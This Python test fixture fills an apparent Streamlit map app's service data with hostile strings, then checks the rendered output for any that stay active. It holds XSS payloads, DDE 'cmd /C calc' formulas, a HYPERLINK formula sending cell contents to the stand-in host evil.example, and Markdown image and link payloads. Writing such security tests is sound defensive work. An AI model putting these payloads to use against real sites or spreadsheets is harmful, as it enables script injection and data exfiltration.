"""A directory whose every text field is hostile, loaded through KOPER_MAP_DATA_DIR.

Each string of HOSTILE tries to run script in a different way; if any of them ever runs, it sets
``window.__pwned`` (or opens a dialog), which the tests look for in every frame. FORMULAS are
spreadsheet formulas (CSV injection), MARKDOWN are payloads that Markdown would turn into an
image, a link or an icon pointing at EVIL_HOST, and MATHS are names that matplotlib's mathtext
would parse. ``build(..., payloads=..., area_payloads=...)`` puts any of them into every text
field of the services and (optionally) into the names of the areas and settlements.
"""
from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

from geo import model, settings

HOSTILE = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    '"><svg onload="window.__pwned=3">',
    "';window.__pwned=4;//",
    "${window.__pwned=5}`",
    '</div><iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
    "[click me](javascript:window.__pwned=7)",
    "{{7*7}} <a href=\"javascript:window.__pwned=8\">x</a>",
)
#: Text fields that reach the page (links, phones and enums are validated and stay real).
TEXT_FIELDS = tuple(f.name for f in model.FIELDS if f.kind == "text" and f.name not in ("id",))
HOSTILE_ADDRESS = 'Kolarska ulica <img src=x onerror="window.__pwned=9"> 10, 6000 Koper'
HOSTILE_SERVICE_ID = "petka-day-centre"
#: An address with a Markdown image and an autolink (for build(..., address=MARKDOWN_ADDRESS)).
MARKDOWN_ADDRESS = "Kolarska ulica ![x](http://evil.example/addr.png) www.evil.example 10, 6000 Koper"

#: Cells that a spreadsheet would evaluate (OWASP CSV injection), one per formula character.
FORMULAS = (
    '=HYPERLINK("http://evil.example/f?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: The host of every attacker URL below: nothing may ever ask for it.
EVIL_HOST = "evil.example"
#: Markdown that would fetch an image, show a link, autolink a URL or show an icon / colour.
MARKDOWN = (
    "![x](http://evil.example/img.png)",
    "[click](http://evil.example/link)",
    "http://evil.example/auto",
    "www.evil.example/www",
    "<http://evil.example/angle>",
    ":material/warning: :red[red] :rainbow-background[x] :streamlit:",
    "<img src=http://evil.example/raw.png>",
    "[ref][1]\n\n[1]: http://evil.example/ref",
)
#: Names that matplotlib's mathtext would parse (a fraction over zero, an unclosed brace, invalid
#: maths between two dollars) or that are half of a formula; all must be shown literally.
MATHS = (r"$\frac{1}{0}$", "$x^{", "$x^{$", r"a $\mathrm{x}$ 5 $")


def build(target: Path, payloads: tuple[str, ...] = HOSTILE, *, area_payloads: tuple[str, ...] = (),
          at_start: bool = False, address: str = HOSTILE_ADDRESS) -> Path:
    """Copy data/ to ``target`` and fill every text field of every service with hostile strings.

    ``payloads`` go into the services (by default the script-running HOSTILE strings), after the
    first 20 characters of the real text or, with ``at_start``, before it (where a spreadsheet
    formula has to be);
    ``area_payloads``, if given, are appended to the Slovene and Italian names of every area and
    settlement (in areas.csv, areas.geojson and settlements.csv). The services at Kolarska ulica 10
    get ``address`` instead (placed where the real address is, by manual_coordinates.csv).
    """
    shutil.copytree(settings.PROJECT_DIR / "data", target)
    if area_payloads:
        _hostile_places(target, area_payloads, at_start)
    services_csv = target / settings.SERVICES_FILE
    with services_csv.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        columns, rows = reader.fieldnames, list(reader)
    for number, row in enumerate(rows):
        for position, name in enumerate(TEXT_FIELDS):
            if name in ("address", "provider_address"):
                continue
            if row.get(name) or name.startswith(("name_", "description_", "provider")):
                payload = payloads[(number + position) % len(payloads)]
                row[name] = f"{payload} {row[name][:20]}" if at_start else f"{row[name][:20]} {payload}"
        if row["location_type"] in ("site", "office") and "Kolarska" in row["address"]:
            row["address"] = address
    out = io.StringIO()
    # every field quoted: a payload with a carriage return stays one field
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    services_csv.write_text(out.getvalue(), encoding="utf-8")

    manual = target / settings.MANUAL_COORDINATES_FILE
    text = manual.read_text(encoding="utf-8")
    kolarska = next(line for line in text.splitlines() if line.startswith('"Kolarska ulica 10'))
    manual.write_text(text + kolarska.replace('"Kolarska ulica 10, 6000 Koper"', '"' + address.replace('"', '""') + '"') + "\n",
                      encoding="utf-8")
    return target


def _hostile_places(target: Path, payloads: tuple[str, ...], at_start: bool) -> None:
    """Append a payload to every area and settlement name (both languages), keeping ids."""
    import json

    names: dict[str, tuple[str, str]] = {}
    for file in (settings.AREAS_FILE, settings.SETTLEMENTS_FILE):
        path = target / file
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.DictReader(handle)
            columns, rows = reader.fieldnames, list(reader)
        for number, row in enumerate(rows):
            payload = payloads[number % len(payloads)]
            for column in ("name_sl", "name_it"):
                if row.get(column):
                    row[column] = f"{payload} {row[column]}" if at_start else f"{row[column]} {payload}"
            if "area_id" in row and file == settings.AREAS_FILE:
                names[row["area_id"]] = (row["name_sl"], row["name_it"])
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8")
    boundaries = target / settings.AREA_BOUNDARIES_FILE
    collection = json.loads(boundaries.read_text(encoding="utf-8"))
    for feature in collection["features"]:
        properties = feature["properties"]
        if properties.get("area_id") in names:
            properties["name_sl"], properties["name_it"] = names[properties["area_id"]]
    boundaries.write_text(json.dumps(collection, ensure_ascii=False), encoding="utf-8")


def formula_cells(rows) -> list[tuple[int, int, str]]:
    """(row, column, text) of every cell in ``rows`` (lists of cells) that a spreadsheet would
    evaluate as a formula: text starting with = + - @, tab or carriage return."""
    return [(r, c, cell) for r, row in enumerate(rows) for c, cell in enumerate(row)
            if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


#: What an unescaped MARKDOWN payload looks like once Markdown has taken the backslashes out.
_ACTIVE_MARKDOWN = re.compile(r"(https?://|www\.|@)evil\.example|:material/|:red\[|:rainbow-background\[|:streamlit:",
                              re.IGNORECASE)
_APP_LINK_TARGET = re.compile(
    r"\]\((https://www\.google\.com/maps/dir/\?|https://www\.openstreetmap\.org/directions\?|tel:\+|mailto:)[^()\s]*\)")


def active_markdown(body: str) -> list[str]:
    """The pieces of a Markdown body that Streamlit would turn into an image, link, autolink, icon or
    colour pointing at EVIL_HOST; [] when ``body`` is safe. Backslash escapes are removed first (as
    the Markdown parser does); the zero-width spaces of geo.safe.md_text are kept (they break them)."""
    # The app's own links (directions, phone, e-mail) may carry an address URL-encoded in their target.
    body = _APP_LINK_TARGET.sub("]()", body)
    return [m.group(0) for m in _ACTIVE_MARKDOWN.finditer(body.replace("\\", ""))]


#: What the service list's HTML (ui.listing.entry_html) may hold: the tags CommonMark makes of our texts.
_LIST_TAGS = {"style", "div", "details", "summary", "p", "strong", "em", "a", "br", "s", "code"}
_APP_HREF = re.compile(r"(https://www\.google\.com/maps/dir/\?|https://www\.openstreetmap\.org/directions\?|tel:\+|mailto:)")


def active_html(body: str) -> list[str]:
    """The pieces of a list's HTML that a browser would make into something else than text: a tag
    CommonMark does not make of our texts (an image, a script), an event handler or source attribute,
    a link with another scheme than http(s), mailto or tel, or to EVIL_HOST other than the app's own
    (directions carrying an address, phone, e-mail); [] when ``body`` is safe."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag not in _LIST_TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on") or name in ("src", "srcset", "style", "formaction"):
                    found.append(f"{tag} {name}={value}")
                href = (value or "").strip().lower()
                if name == "href" and (not href.startswith(("https://", "http://", "mailto:", "tel:"))
                                       or EVIL_HOST in href and not _APP_HREF.match(href)):
                    found.append(f"href={value}")

    Parser().feed(body)
    return found
